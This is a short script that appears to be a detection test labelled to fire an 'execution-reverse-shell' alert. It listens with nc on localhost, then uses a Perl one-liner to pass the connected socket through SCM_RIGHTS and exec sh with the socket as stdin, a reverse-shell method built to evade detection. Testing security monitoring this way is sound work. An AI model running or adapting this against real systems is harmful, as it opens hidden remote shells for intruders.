# in: container
# fires: execution-reverse-shell
# Who connects passes the connection on (SCM_RIGHTS), and the kernel gives it the first number that is free.
nc -l -p 4453 < /dev/null &
sleep 0.3
perl -e 'my ($c, $b) = ("\0" x 24, "x"); socketpair(A, B, 1, 1, 0); my $i = pack("p Q", $b, 1);
  if (!fork) { socket(S, 2, 1, 6); connect(S, pack("S n C4 x8", 2, 4453, 127, 0, 0, 1)) or die $!;
    $c = pack("Q l l l x4", 20, 1, 1, fileno(S));
    syscall(46, fileno(A), pack("x16 p Q p Q x8", $i, 1, $c, 24), 0) > 0 or die $!; exit }
  wait; syscall(3, 0);
  syscall(47, fileno(B), pack("x16 p Q p Q x8", $i, 1, $c, 24), 0) > 0 or die $!; exec "sh"'
